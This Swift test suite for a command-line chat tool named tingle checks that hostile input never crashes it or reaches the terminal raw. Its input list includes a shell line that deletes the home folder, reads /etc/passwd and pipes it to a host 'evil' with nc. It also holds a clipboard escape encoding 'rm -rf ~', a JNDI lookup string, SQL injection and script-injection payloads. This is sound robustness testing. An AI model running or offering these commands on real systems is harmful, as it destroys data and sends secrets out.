import Foundation
import Testing

/// Whatever a person or a script throws at tingle is answered, in every mode, without a
/// crash, a hang, a raw control character on the terminal or a lost conversation.
@Suite("Hostile input")
struct HostileInputTests {
    /// Lines as raw bytes: every one must get a reply (or, blank, be skipped in plain mode).
    static let hostileLines: [(name: String, bytes: [UInt8])] = [
        ("empty", []),
        ("whitespace only", Array("   \t  ".utf8)),
        ("NUL bytes", Array("my\0feet go numb\0\0".utf8)),
        ("only NULs", [0, 0, 0]),
        (
            "invalid UTF-8",
            [0xFF, 0xFE, 0x20] + Array("numb toes ".utf8) + [
                0xC3, 0x28, 0xED, 0xA0, 0x80, 0xF4, 0x90, 0x80, 0x80, 0xC0, 0xAF,
            ]
        ),
        ("truncated UTF-8 at the end", Array("my toes go numb ".utf8) + [0xE2, 0x82]),
        ("clear screen and cursor home", Array("\u{1B}[2J\u{1B}[H my feet go numb".utf8)),
        ("window title (OSC 0)", Array("\u{1B}]0;pwned\u{07}numb toes".utf8)),
        ("clipboard write (OSC 52)", Array("\u{1B}]52;c;cm0gLXJmIH4=\u{07} numb feet".utf8)),
        ("device status report", Array("\u{1B}[6n\u{1B}[c numb".utf8)),
        ("C1 CSI", Array("\u{9B}31mred\u{9B}0m toes numb".utf8)),
        ("DCS string", Array("\u{1B}P1;2|abc\u{1B}\\ numb".utf8)),
        ("an unterminated OSC", Array("numb feet \u{1B}]0;never ends".utf8)),
        ("a lone ESC at the end", Array("numb feet \u{1B}".utf8)),
        ("bell, backspace, DEL, vertical tab, form feed", Array("numb\u{07}\u{08}\u{08}\u{7F} toes\u{0B}\u{0C}".utf8)),
        ("carriage return in the middle", Array("hello\rmy feet go numb".utf8)),
        ("bidi override", Array("\u{202E}bmun teef ym\u{202C} \u{2066}x\u{2069}".utf8)),
        ("emoji", Array("🦶😣 my feet go numb 👟👟 👩‍👩‍👧 🏃🏽‍♀️".utf8)),
        ("right-to-left text", Array("הרגליים שלי נרדמות כשאני רץ — قدمي تخدر عند الجري".utf8)),
        ("SQL", Array("'; DROP TABLE users; -- my feet go numb".utf8)),
        ("HTML and script", Array("<script>alert('numb')</script><img src=x onerror=alert(1)>".utf8)),
        ("shell", Array("$(rm -rf ~) `reboot` && cat /etc/passwd | nc evil 1234".utf8)),
        ("format strings", Array("%s%s%s%n%x %@ {0} {{7*7}} ${jndi:ldap://x/a}".utf8)),
        ("JSON", Array(#"{"turn": 99, "reply": "\u001b[2J", "intent": null}"#.utf8)),
        ("a transcript line", Array("< expected reply\n".utf8.dropLast())),
        ("a slash command with an escape", Array("/a\u{1B}[2Jb".utf8)),
        ("a slash command that is only an escape", Array("/\u{1B}]0;x\u{07}".utf8)),
        ("/save without a file", Array("/save".utf8)),
        ("a very long word", Array(String(repeating: "numb", count: 490).utf8)),
        ("a very long token of digits and letters", Array(String(repeating: "n0mb", count: 450).utf8)),
        ("repeated punctuation", Array(String(repeating: "?!.,;:", count: 300).utf8)),
        ("numbers", Array("numb after 0 miles, -5 km, 1e308 minutes, 3.14.15 hours, 0x1F, ½ mile, ٣ miles".utf8)),
        (
            "a number above Int.max",
            Array(
                "my feet go numb about 99999999999999999999 minutes in, after 1\(String(repeating: "0", count: 400)) miles"
                    .utf8)
        ),
        ("just over the length limit", Array(String(repeating: "my feet go numb ", count: 130).utf8)),
        ("zero-width and combining marks", Array("n\u{200B}u\u{200D}m\u{FEFF}b t\u{0301}\u{0301}\u{0301}oes".utf8)),
        ("private use and unassigned", Array("\u{E000}\u{F8FF} numb \u{10FFFF}".utf8)),
        ("Unicode line separators", Array("numb\u{2028}toes\u{2029}feet\u{85}".utf8)),
    ]

    static var input: Data {
        Data(hostileLines.flatMap { $0.bytes + [0x0A] })
    }

    func isBlank(_ bytes: [UInt8]) -> Bool {
        String(decoding: bytes, as: UTF8.self).allSatisfy(\.isWhitespace)
    }

    func expectClean(_ result: Binary.RawResult, _ mode: String) {
        #expect(!result.signalled, "\(mode): killed by a signal")
        #expect(result.status == 0, "\(mode): exit \(result.status)\n\(result.stderr)")
        #expect(
            !result.stderr.contains("Fatal error") && !result.stderr.contains("Stack dump")
                && !result.stderr.contains("Current stack trace"), "\(mode): \(result.stderr)")
        let raw = rawControlCharacters(in: result.stdout)
        #expect(
            raw.isEmpty, "\(mode): raw control characters in the output: \(raw.map { String($0.value, radix: 16) })")
    }

    @Test("--json: one object per hostile line, every non-blank line answered, nothing raw")
    func json() throws {
        let r = try Binary.run(["--json"], bytes: Self.input)
        expectClean(r, "--json")
        let lines = r.text.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        #expect(lines.count == Self.hostileLines.count, "one object per input line")
        for (line, hostile) in zip(lines, Self.hostileLines) {
            let parsed = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            let object = try #require(parsed, "\(hostile.name): \(line)")
            let reply = try #require(object["reply"] as? String, "\(hostile.name)")
            if isBlank(hostile.bytes) {
                #expect(reply.isEmpty, "\(hostile.name): a blank line gets an empty reply")
            } else {
                #expect(!reply.isEmpty, "\(hostile.name): no reply")
            }
            for scalar in (object["input"] as? String ?? "").unicodeScalars {
                #expect(
                    scalar.value >= 0x20 && !(0x7F...0x9F).contains(scalar.value), "\(hostile.name): input echoed raw")
            }
        }
    }

    @Test("Piped plain mode: every non-blank hostile line gets a reply, nothing raw")
    func plain() throws {
        let r = try Binary.run([], bytes: Self.input)
        expectClean(r, "plain")
        #expect(
            !r.text.contains("[2J") && !r.text.contains("]0;") && !r.text.contains("]52;"), "escape parameters echoed")
        // Each non-blank line is answered: compare with the number of replies --json gives.
        let answered = Self.hostileLines.filter { !isBlank($0.bytes) }.count
        let replies = r.text.components(separatedBy: "\n\n").filter { !$0.isEmpty }
        #expect(replies.count >= answered, "\(replies.count) replies for \(answered) lines")
    }

    @Test("replay: a transcript of hostile lines replays; --record of them replays green")
    func replay() throws {
        let dir = try Binary.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        // Hand-written: each non-blank line expects some reply line. A transcript file is
        // UTF-8 and a line cannot hold a line break, so those lines are written repaired.
        var text = "title: hostile lines\n"
        for (name, bytes) in Self.hostileLines where !isBlank(bytes) {
            let line = String(decoding: bytes, as: UTF8.self)
                .replacingOccurrences(of: "\r", with: " ").replacingOccurrences(of: "\u{0B}", with: " ")
                .replacingOccurrences(of: "\u{0C}", with: " ").replacingOccurrences(of: "\u{85}", with: " ")
                .replacingOccurrences(of: "\u{2028}", with: " ").replacingOccurrences(of: "\u{2029}", with: " ")
            text += "# \(name)\n> \(line)\n</ .\n"
        }
        let file = dir.appendingPathComponent("hostile.txt")
        try text.write(to: file, atomically: true, encoding: .utf8)
        let r = try Binary.run(["replay", file.path], bytes: Data())
        expectClean(r, "replay")
        #expect(r.text.contains("1 passed, 0 failed"), "\(r.text)\n\(r.stderr)")

        // What tingle records from hostile input replays green as it stands.
        let recording = dir.appendingPathComponent("recorded.txt").path
        let chat = try Binary.run(["--record", recording], bytes: Self.input)
        expectClean(chat, "--record")
        let recorded = try Data(contentsOf: URL(fileURLWithPath: recording))
        #expect(rawControlCharacters(in: recorded).isEmpty, "the recording holds raw control characters")
        let green = try Binary.run(["replay", recording], bytes: Data())
        expectClean(green, "replay of the recording")
        #expect(green.text.hasSuffix("1 passed, 0 failed\n"), "\(green.text)")
    }

    @Test("A failing replay prints the transcript's lines safely")
    func replayFailureOutputIsSafe() throws {
        let dir = try Binary.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("escapes.txt")
        try "> hello\n< \u{1B}]0;pwned\u{07}\u{1B}[2J not the reply\n".write(
            to: file, atomically: true, encoding: .utf8)
        let r = try Binary.run(["replay", file.path], bytes: Data())
        #expect(r.status == 1)
        #expect(r.text.contains("not the reply"))
        #expect(rawControlCharacters(in: r.stdout).isEmpty, "\(r.text)")
    }

    @Test("ask: hostile words are answered without raw control characters")
    func ask() throws {
        for (name, bytes) in Self.hostileLines where !isBlank(bytes) && !bytes.contains(0) {
            let words = String(decoding: bytes, as: UTF8.self)
            let r = try Binary.run(["ask", "--json", "--", words], bytes: Data())
            expectClean(r, "ask \(name)")
            #expect(!r.text.isEmpty, "ask \(name)")
        }
    }

    // How fast such a line is refused is measured by Benchmarks/run, not here.
    @Test("A multi-megabyte line is refused politely, in every mode")
    func multiMegabyteLine() throws {
        let huge = Data(String(repeating: "my feet go numb after 3 miles ", count: 170_000).utf8)  // 5 MB
        let input = huge + Data("\nhello\n".utf8) + huge  // the last without a newline
        let plain = try Binary.run([], bytes: input)
        expectClean(plain, "plain")
        let replies = plain.text.components(separatedBy: "\n\n")
        #expect(replies.count == 3)
        #expect(replies.first?.contains("too long") == true)
        #expect(replies.dropFirst().first?.hasPrefix("Hi!") == true)

        let json = try Binary.run(["--json"], bytes: input)
        expectClean(json, "--json")
        let lines = json.text.split(separator: "\n")
        #expect(lines.count == 3)
        #expect(lines.first?.contains("too long") == true)

        let dir = try Binary.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("huge.txt")
        try (Data("> ".utf8) + huge + Data("\n<~ too long\n".utf8)).write(to: file)
        let replay = try Binary.run(["replay", file.path], bytes: Data())
        expectClean(replay, "replay")
        #expect(replay.text.contains("1 passed"))
    }

    @Test("Input that ends in the middle of the questionnaire: replies printed, exit 0")
    func endOfInputMidQuestion() throws {
        for arguments in [[], ["--json"]] {
            // no final newline
            let r = try Binary.run(arguments, input: "my feet go numb after 3 miles\nnew hokas, laced")
            #expect(r.status == 0, "\(arguments)")
            #expect(r.stdout.contains("What do you run in?"))
            #expect(r.stdout.contains("Anything else"), "the unterminated last line is answered too")
            #expect(r.stderr.isEmpty)
        }
    }

    @Test("A closed stdout ends tingle quietly: tingle < input | head -1")
    func closedStdout() throws {
        let dir = try Binary.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("input.txt")
        try String(repeating: "my feet go numb after 3 miles\nnew hokas\nno\nwhat causes it?\n", count: 500)
            .write(to: input, atomically: true, encoding: .utf8)
        for flags in ["", "--json"] {
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/bin/sh")
            // sh has no PIPESTATUS: tingle's own status is written to a file.
            process.arguments = [
                "-c", "{ \"$0\" \(flags) < \"$1\" 2>\"$2\"; echo $? > \"$3\"; } | head -1",
                Binary.url.path, input.path, dir.appendingPathComponent("err").path,
                dir.appendingPathComponent("status").path,
            ]
            let out = Pipe()
            process.standardOutput = out
            try process.run()
            let data = out.fileHandleForReading.readDataToEndOfFile()
            process.waitUntilExit()
            #expect(String(decoding: data, as: UTF8.self).split(separator: "\n").count == 1)
            let errors = try String(contentsOf: dir.appendingPathComponent("err"), encoding: .utf8)
            #expect(errors.isEmpty, "stderr after the reader went away: \(errors)")
            let status = try String(contentsOf: dir.appendingPathComponent("status"), encoding: .utf8)
            #expect(status.trimmingCharacters(in: .whitespacesAndNewlines) == "0", "exit status \(status)")
        }
        // The recording asked for is saved all the same.
        let recording = dir.appendingPathComponent("recorded.txt").path
        let recorded = Process()
        recorded.executableURL = URL(fileURLWithPath: "/bin/sh")
        recorded.arguments = [
            "-c", "\"$0\" --record \"$2\" < \"$1\" | head -1 > /dev/null", Binary.url.path, input.path, recording,
        ]
        try recorded.run()
        recorded.waitUntilExit()
        #expect(try String(contentsOfFile: recording, encoding: .utf8).contains("> my feet go numb after 3 miles"))
        #expect((try FileManager.default.attributesOfItem(atPath: recording)[.posixPermissions] as? Int) == 0o600)

        // stdout closed before the first write: every reply would be lost, which a script
        // must be able to tell (issue 13): exit 1 and a message, unlike a reader that left.
        let closed = Process()
        closed.executableURL = URL(fileURLWithPath: "/bin/sh")
        closed.arguments = ["-c", "\"$0\" < \"$1\" >&-", Binary.url.path, input.path]
        let errors = Pipe()
        closed.standardError = errors
        try closed.run()
        let errorText = String(decoding: errors.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        closed.waitUntilExit()
        #expect(closed.terminationStatus == 1)
        #expect(errorText == "tingle: standard output is closed; nothing could be shown (give it a file or a pipe)\n")
    }

    @Test(
        "SIGINT and SIGTERM in piped mode: the replies so far stand, the recording is saved, exit 128+n",
        arguments: [SIGINT, SIGTERM])
    func signals(signalNumber: Int32) throws {
        let dir = try Binary.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let recording = dir.appendingPathComponent("recorded.txt").path
        for json in [false, true] {
            let running = try Binary.Running((json ? ["--json"] : []) + ["--record", recording])
            running.type("my feet go numb after 3 miles\nnew hokas\n")
            #expect(running.waitFor("Anything else"), "the replies come before the signal")
            kill(running.process.processIdentifier, signalNumber)
            let status = running.exitStatus()
            #expect(status == 128 + signalNumber, "json \(json): exit \(String(describing: status))")
            #expect(running.errors.isEmpty, "\(running.errors)")
            let saved = try String(contentsOfFile: recording, encoding: .utf8)
            #expect(saved.contains("> new hokas"), "the recording is saved on the signal")
            let attributes = try FileManager.default.attributesOfItem(atPath: recording)
            #expect((attributes[.posixPermissions] as? Int) == 0o600)
            #expect(
                try FileManager.default.contentsOfDirectory(atPath: dir.path) == ["recorded.txt"],
                "no temporary file left")
        }
    }

    @Test("A piped conversation longer than the memory budget: /save says to use --record, which keeps it all")
    func saveAfterBudget() throws {
        let dir = try Binary.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let saved = dir.appendingPathComponent("saved.txt").path
        let long =
            String(repeating: "my feet go numb after 3 miles\nnew hokas\nno\n/restart\n", count: 1_000)
            + "/save \(saved)\n"
        let r = try Binary.run([], input: long)
        #expect(r.status == 1, "the file asked for was not written")
        #expect(
            r.stderr.hasSuffix(
                "Could not save: this piped conversation is too long to keep in memory; run tingle with --record FILE to record a long one.\n"
            ))
        #expect(!FileManager.default.fileExists(atPath: saved))
        let recording = dir.appendingPathComponent("recording.txt").path
        let recorded = try Binary.run(["--record", recording], input: long)
        #expect(recorded.status == 0)
        #expect(recorded.stdout.hasSuffix("Replay it with: tingle replay \(saved)\n"))
        #expect(
            try String(contentsOfFile: saved, encoding: .utf8).components(separatedBy: "\n> new hokas").count == 1_001)
        #expect(
            try String(contentsOfFile: recording, encoding: .utf8).components(separatedBy: "\n> new hokas").count
                == 1_001)
    }

    /// Set by scripts/sanitize: a sanitizer's own memory and slowness make sizes and times meaningless.
    static let underSanitizer = ProcessInfo.processInfo.environment["TINGLE_SANITIZER"].map { !$0.isEmpty } ?? false

    @Test(
        "Many piped lines run in flat memory (2,000 vs 50,000 lines)",
        .disabled(if: underSanitizer, "peak memory is the sanitizer's under scripts/sanitize"))
    func flatMemory() throws {
        let conversation = [
            "my feet go numb after 3 miles", "new hokas laced tight", "no", "what causes it?",
            "hello", "\u{1B}[2J numb toes 🦶", "lacing tips", "asdf qwer zxcv", "thanks", "/restart",
        ]
        func input(_ lines: Int) -> String {
            // The summary of a last report marks the end of the replies.
            (0..<lines).map { conversation[$0 % conversation.count] }.joined(separator: "\n")
                + "\nmy feet go numb after 3 miles\n/summary\n"
        }
        // 50,000 lines keep this test near 15 s in a debug build; the memory of a run grows
        // linearly if anything is kept per line, which 25 times the lines shows plainly.
        let small = try Binary.peakMemory([], input: input(2_000))
        let large = try Binary.peakMemory([], input: input(50_000))
        #expect(
            large - small < 10_000,
            "peak memory grew by \(large - small) KB from 2,000 to 50,000 lines (\(small) → \(large) KB)")
    }

    @Test("Only blank lines (tabs, form feeds): no recording of no turns is written, and the user is told why")
    func blankRecording() throws {
        let dir = try Binary.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let path = dir.appendingPathComponent("blank.txt").path
        for arguments in [["--record", path], ["--json", "--record", path]] {
            let r = try Binary.run(arguments, bytes: Data("\t\n\u{0C}\n \t \n".utf8))
            #expect(r.status == 0, "\(arguments): \(r.stderr)")
            #expect(r.stderr.contains("nothing was said, so no recording was written"), "\(r.stderr)")
            #expect(!FileManager.default.fileExists(atPath: path))
        }
    }
}
